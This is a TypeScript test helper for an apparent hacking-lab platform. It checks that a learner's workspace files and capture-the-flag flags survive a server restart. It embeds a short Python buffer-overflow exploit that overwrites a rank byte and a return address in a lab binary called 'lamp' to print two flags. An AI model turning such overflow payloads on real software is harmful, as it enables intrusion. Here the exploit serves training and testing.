import type { FlagVerdict, HomeFiles, Instance, LabFlagsSolved } from '@hexpedition/contract';
import { expect } from 'vitest';
import {
  connectTerminal,
  type TerminalClient,
} from '../../apps/server/src/features/labs/workspaces/testing/terminal-client.ts';
import type { RunningServer } from './server.ts';

/** Work of a learner in a workspace before a power cut, and its state afterwards. */

/** Exploits the lamp server as a learner would, and prints its flags. */
const attack = `
import socket, subprocess, re
def send(payload):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)  # a lamp server that returned to a wrong address may loop
    s.connect('/lamp/lamp.sock')
    response = b''
    try:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        while chunk := s.recv(4096): response += chunk
    except OSError: pass
    return re.search(rb'flag\\{[^}]+\\}', response)
def first(payloads):
    for payload in payloads:
        if found := send(payload): return found.group().decode()
base = subprocess.run("nm ~/lamp | grep ' light_all$'", shell=True, capture_output=True, text=True).stdout.split()[0]
addresses = [(int(base, 16) + offset).to_bytes(8, 'little') for offset in (0, 1)]
print('ONE', first(b'1\\n' + b'A' * n + b'\\x07\\n' for n in range(1, 200)))
print('TWO', first(b'1\\n' + b'A' * n + a + b'\\n' for n in range(8, 200, 8) for a in addresses))
`;

const lab = '/api/lab/lamplighter';
const note = 'the light answers to rank 7';

export interface SavedWork {
  terminal: TerminalClient;
  /** A flag that was found and not submitted. */
  unsubmitted: string;
  /** Points of the submitted flag. */
  points: number;
}

function createClient({ url }: RunningServer, access: string) {
  const authorization = { authorization: `Bearer ${access}` };
  const call = async <T>(method: string, path: string, body?: object): Promise<T> => {
    const json = body ? { body: JSON.stringify(body) } : {};
    const type: Record<string, string> = body ? { 'content-type': 'application/json' } : {};
    const response = await fetch(url + path, { method, headers: { ...authorization, ...type }, ...json });
    return (await response.json()) as T;
  };
  const file = (path: string) => `${url}${lab}/file?path=${path}`;
  return {
    get: <T>(path: string) => call<T>('GET', path),
    post: <T>(path: string, body?: object) => call<T>('POST', path, body),
    upload: (path: string, body: string) =>
      fetch(file(path), {
        method: 'PUT',
        headers: { ...authorization, 'content-type': 'application/octet-stream' },
        body,
      }),
    download: async (path: string) => (await fetch(file(path), { headers: authorization })).text(),
    submit: (flag: string) => call<FlagVerdict>('POST', '/api/lab/flags/lamplighter', { flag }),
  };
}

/**
 * Finds two flags in a workspace, submits one, and writes a file until the workspace reports it as saved.
 * @returns undefined if the machine cannot run workspaces
 */
export async function saveWork(server: RunningServer, access: string): Promise<SavedWork | undefined> {
  const learner = createClient(server, access);
  if ((await learner.get<{ unavailable: string | null }>(lab)).unavailable) return undefined;
  expect((await learner.post<{ instance: Instance }>(`${lab}/start`)).instance.status).toBe('running');

  const { ticket } = await learner.post<{ ticket: string }>(`${lab}/terminal`);
  const terminal = await connectTerminal(server.port, { origin: server.url }, ticket);
  terminal.send({ ticket, terminal: 1, columns: 80, rows: 24, from: null });
  await terminal.waitFor('attached');
  expect((await learner.upload('attack.py', attack)).status).toBe(200);
  terminal.type('python3 attack.py\n');
  await expect.poll(terminal.text).toMatch(/ONE flag\{\w+\}\s+TWO flag\{\w+\}/);
  const [submitted = '', unsubmitted = ''] = terminal.text().match(/flag\{\w+\}/g) ?? [];
  expect(await learner.submit(submitted)).toMatchObject({ result: 'right', flag: { id: 'neighbour' } });

  const before = terminal.messages.length;
  terminal.type(`echo "${note}" > notes.txt\n`);
  await expect
    .poll(() => terminal.messages.slice(before).filter(({ type }) => type === 'saved').length)
    .toBeGreaterThan(0);
  // A save in progress may have started before the text was written.
  await expect.poll(async () => (await learner.download('notes.txt')).trim()).toBe(note);
  const savedAt = async () =>
    (await learner.get<{ instance: Instance }>(`${lab}/instance`)).instance.home?.saved_at ?? '';
  const earlier = await savedAt();
  terminal.type('true\n');
  await expect.poll(savedAt).not.toBe(earlier);
  return { terminal, unsubmitted, points: 20 };
}

/** Checks after the restart that the workspace has stopped, and that its files and flags are still there. */
export async function expectFilesKept(server: RunningServer, access: string, work: SavedWork): Promise<void> {
  expect(await work.terminal.closed).toMatchObject({ code: 1006 });
  const learner = createClient(server, access);
  const { instance } = await learner.get<{ instance: Instance }>(`${lab}/instance`);
  expect(instance).toMatchObject({ status: 'stopped', error: 'The server was restarted.' });
  expect(instance.home?.bytes).toBeGreaterThan(0);
  const { flags } = await learner.get<LabFlagsSolved>('/api/lab/flags_solved');
  expect(flags.map(({ id }) => id)).toContain('neighbour');
  expect(flags.map(({ id }) => id)).not.toContain('all-lamps');
  // A flag stays valid for a day after its instance.
  expect(await learner.submit(work.unsubmitted)).toMatchObject({ result: 'right', flag: { id: 'all-lamps' } });

  expect((await learner.post<{ instance: Instance }>(`${lab}/start`)).instance.status).toBe('running');
  expect(await learner.download('notes.txt')).toBe(`${note}\n`);
  expect(await learner.download('attack.py')).toBe(attack);
  const { files } = await learner.get<HomeFiles>(`${lab}/files`);
  expect(files.map(({ path }) => path)).toContain('notes.txt');
  await learner.post(`${lab}/stop`);
}
